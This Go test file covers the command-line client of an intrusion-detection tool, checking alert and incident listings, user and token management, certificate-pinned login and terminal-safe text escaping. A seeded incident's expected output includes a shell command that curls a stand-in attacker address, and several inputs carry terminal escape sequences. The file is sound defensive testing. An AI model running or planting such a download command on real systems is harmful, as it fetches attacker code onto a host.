package cli

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"baize/internal/alert"
	"baize/internal/incident"
	"baize/test/seed/stand"
	"baize/test/seed/story"
)

const standPassword = "correct horse battery"

// startStand runs a server with a story in a fresh state directory, which
// becomes this test's.
func startStand(t *testing.T) *stand.Stand {
	t.Helper()
	home := t.TempDir()
	t.Setenv("BAIZE_HOME", home)
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	s, err := stand.New(t.Context(), stand.Options{
		Home: home, HTTP: "127.0.0.1:0", Password: standPassword,
		Began: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Log: &bytes.Buffer{},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Tell(t.Context(), s.Left()); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(time.Millisecond) {
		if conn, err := new(net.Dialer).DialContext(t.Context(), "unix", socket(home)); err == nil {
			_ = conn.Close()
			return s
		}
		if time.Now().After(deadline) {
			t.Fatal("the server does not listen")
		}
	}
}

// runBaize runs a command line as main does.
func runBaize(t *testing.T, input string, args ...string) (stdout string, status int, problem string) {
	t.Helper()
	root := New()
	var out, errs bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errs)
	root.SetIn(strings.NewReader(input))
	root.SetArgs(args)
	err := root.ExecuteContext(t.Context())
	if err != nil {
		problem = err.Error()
	}
	return out.String(), ExitStatus(err), problem
}

func ran(t *testing.T, args ...string) string {
	t.Helper()
	out, status, problem := runBaize(t, "", args...)
	if status != 0 {
		t.Fatalf("baize %s: %d %s", strings.Join(args, " "), status, problem)
	}
	return out
}

// lines decodes NDJSON strictly: no field may be unknown to the type.
func lines[T any](t *testing.T, text string) []T {
	t.Helper()
	var all []T
	for line := range strings.Lines(text) {
		decoder := json.NewDecoder(strings.NewReader(line))
		decoder.DisallowUnknownFields()
		var v T
		if err := decoder.Decode(&v); err != nil {
			t.Fatalf("%v in %s", err, line)
		}
		all = append(all, v)
	}
	return all
}

func TestListsAreTheContract(t *testing.T) {
	startStand(t)
	alerts := lines[alert.Alert](t, ran(t, "alerts", "--json"))
	if len(alerts) != 10 {
		t.Fatalf("%d alerts", len(alerts))
	}
	for i, a := range alerts {
		if a.ID == "" || a.Host.ID == "" || a.Event == nil && a.Kind != alert.KindChain || i > 0 && a.Time.Before(alerts[i-1].Time) {
			t.Errorf("alert %d: %+v", i, a)
		}
	}
	incidents := lines[incident.Incident](t, ran(t, "incidents", "--json"))
	if len(incidents) != 2 || incidents[0].ID != story.Intrusion || len(incidents[0].Reasons) == 0 {
		t.Errorf("incidents %+v", incidents)
	}
	one := lines[incident.Incident](t, ran(t, "incidents", "show", story.Intrusion, "--json"))
	if len(one) != 1 || len(one[0].Alerts) != 9 {
		t.Errorf("incident %+v", one)
	}
	for args, want := range map[string]int{
		"--host " + story.DatabaseHost: 1, "--incident " + story.Intrusion: 9, "--since 2026-01-02T03:10:00Z": 4,
	} {
		if got := lines[alert.Alert](t, ran(t, append([]string{"alerts", "--json"}, strings.Fields(args)...)...)); len(got) != want {
			t.Errorf("%s gave %d alerts, want %d", args, len(got), want)
		}
	}
}

func TestTablesAreForPeople(t *testing.T) {
	startStand(t)
	shown := ran(t, "incidents", "show", story.Intrusion)
	for _, part := range []string{
		"Web service java on web-1 was made to run commands", "open, level critical, score 97",
		"\n  1 /sbin/init (root)\n    2210 java -jar /opt/shop/api.jar (app)\n      31007 /bin/sh -c curl http://203.0.113.9/t",
		"31015 [kworker/14:1] (app)  [3 alerts]", "file_flow", "persistence  yes",
	} {
		if !strings.Contains(shown, part) {
			t.Errorf("%q is missing in\n%s", part, shown)
		}
	}
	for args, want := range map[string]string{
		"hosts": "web-1", "hosts list": "away       unknown", "hosts show " + story.DatabaseHost: "not supported by this kernel",
		"status": "2 connected, 2 armed", "alerts": "Process disguised as a kernel thread", "incidents": story.KeyFinding,
		"hosts ping " + story.WebHost: "done in 3.2 ms", "hosts revoke " + story.WebHost: "revoked", "tokens list": "EXPIRES",
	} {
		if out := ran(t, strings.Fields(args)...); !strings.Contains(out, want) {
			t.Errorf("baize %s lacks %q:\n%s", args, want, out)
		}
	}
	if out := ran(t, "audit"); !strings.Contains(out, "revoke-host") || !strings.Contains(out, "ping-host") {
		t.Errorf("audit log\n%s", out)
	}
}

func TestExitStatusesOfOnlineCommands(t *testing.T) {
	startStand(t)
	for args, want := range map[string]int{
		"status --wait 1s": 0, "hosts show nix": exitNo, "incidents show nix": exitNo, "users remove nix": exitNo,
		"alerts --since soon": exitUsage, "users add Bad": exitUsage, "incidents show": exitUsage, "nix": exitUsage, "alerts --nix": exitUsage,
		"hosts ping h-zz-old": exitUnreachable,
	} {
		if _, status, problem := runBaize(t, "", strings.Fields(args)...); status != want || strings.Contains(problem, "\n") {
			t.Errorf("baize %s: %d (%s), want %d", args, status, problem, want)
		}
	}
	t.Setenv("BAIZE_HOME", t.TempDir())
	if _, status, problem := runBaize(t, "", "hosts"); status != exitUnreachable || !strings.Contains(problem, "baize login URL") {
		t.Errorf("without a server: %d %s", status, problem)
	}
	if _, status, _ := runBaize(t, "", "status", "--wait", "300ms"); status != exitUnreachable {
		t.Errorf("waiting without a server: %d", status)
	}
}

func TestUsersAreManaged(t *testing.T) {
	startStand(t)
	password := strings.TrimSpace(ran(t, "users", "add", "ann", "--role", "analyst"))
	if len(password) != 23 {
		t.Errorf("password %q", password)
	}
	if again := strings.TrimSpace(ran(t, "users", "one-time", "ann")); again == password || len(again) != 23 {
		t.Errorf("password %q", again)
	}
	if _, status, problem := runBaize(t, "a longer password\n", "users", "passwd", "ann"); status != 0 {
		t.Errorf("passwd: %s", problem)
	}
	if out := ran(t, "users", "list"); !strings.Contains(out, "ann ") {
		t.Errorf("users\n%s", out)
	}
	ran(t, "users", "remove", "ann")
	if _, status, _ := runBaize(t, "\n", "users", "passwd", "admin"); status != exitUsage {
		t.Errorf("an empty password: %d", status)
	}
	if token := strings.TrimSpace(ran(t, "tokens", "create")); !strings.HasPrefix(token, "enrol_") {
		t.Errorf("token %q", token)
	}
}

// The login to a server elsewhere is stored for this user alone, and works
// with the pinned authority only.
func TestLoginElsewhere(t *testing.T) {
	s := startStand(t)
	t.Setenv("BAIZE_HOME", "")
	t.Chdir(t.TempDir())
	root, err := findAuthority(t.Context(), strings.Trim(strings.TrimPrefix(s.URL(), "https:"), "/"))
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(root.Raw)
	pin := hex.EncodeToString(sum[:])
	if _, status, problem := runBaize(t, standPassword+"\n", "login", s.URL(), "--user", "viewer", "--pin", strings.Repeat("0", 64)); status != exitUnreachable || !strings.Contains(problem, "do not log in") {
		t.Errorf("with a wrong pin: %d %s", status, problem)
	}
	if _, status, _ := runBaize(t, "n\n", "login", s.URL()); status != exitUnreachable {
		t.Errorf("not confirmed: %d", status)
	}
	if _, status, _ := runBaize(t, "wrong horse battery\n", "login", s.URL(), "--pin", pin); status != exitUnreachable {
		t.Errorf("with a wrong password: %d", status)
	}
	if _, status, problem := runBaize(t, "y\n"+standPassword+"\n", "login", s.URL(), "--user", "viewer"); status != 0 {
		t.Fatalf("login: %s", problem)
	}
	file := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "baize", "login.json")
	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	if alerts := lines[alert.Alert](t, ran(t, "alerts", "--json")); len(alerts) != 10 {
		t.Errorf("%d alerts", len(alerts))
	}
	if _, status, problem := runBaize(t, "", "users", "list"); status != exitUnreachable || !strings.Contains(problem, "needs the role admin") {
		t.Errorf("a viewer's token: %d %s", status, problem)
	}
}

func TestLoginRefusesOtherURLs(t *testing.T) {
	for _, url := range []string{"http://127.0.0.1:1", "127.0.0.1", "https://"} {
		if _, status, _ := runBaize(t, "", "login", url); status != exitUsage {
			t.Errorf("login %s: %d", url, status)
		}
	}
}

func TestExpiredLoginSaysSo(t *testing.T) {
	l := &login{URL: "https://example", Expires: time.Now().Add(-time.Second)}
	if _, err := l.client(); err == nil || !strings.Contains(err.Error(), "baize login https://example") {
		t.Errorf("got %v", err)
	}
}

// What a monitored host writes cannot move the operator's cursor.
func TestTextIsMadeFitForTerminals(t *testing.T) {
	for in, want := range map[string]string{
		"plain 白泽": "plain 白泽", "": "-", "a\x1b[2Jb": `a\x1b[2Jb`, "a\nb\tc": `a\nb\tc`, "\u202eevil": `\u202eevil`, "\xff": `\ufffd`,
		strings.Repeat("x", maxCell+1): strings.Repeat("x", maxCell) + "…",
	} {
		if got := clean(in); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
	long := strings.Repeat("白", 3*maxCell)
	if got := plain(long + "\x1b"); got != long+`\x1b` {
		t.Errorf("plain gave %q", got)
	}
}

func TestSizes(t *testing.T) {
	for n, want := range map[uint64]string{0: "0 B", 1023: "1023 B", 1536: "1.5 KiB", 12 << 20: "12.0 MiB", 1 << 62: "4096.0 PiB"} {
		if got := bytesText(n); got != want {
			t.Errorf("%d is %s, want %s", n, got, want)
		}
	}
}

// A list that is not in order, or turns in a circle, is drawn once and ends.
func TestForestOfForeignShapeEnds(t *testing.T) {
	var out bytes.Buffer
	printForest(&out, []process{{Key: "a", Parent: "a", PID: 1, Executable: "/a"}, {Key: "b", Parent: "gone", PID: 2, CommandLine: "/b", User: "root"}, {Key: "c", Parent: "b", PID: 3, Alerts: []string{"x"}}})
	if want := "  1 /a\n  2 /b (root)\n    3 (not seen: older than the agent, or outside its scope)  [1 alerts]\n"; out.String() != want {
		t.Errorf("drew\n%s", out.String())
	}
}
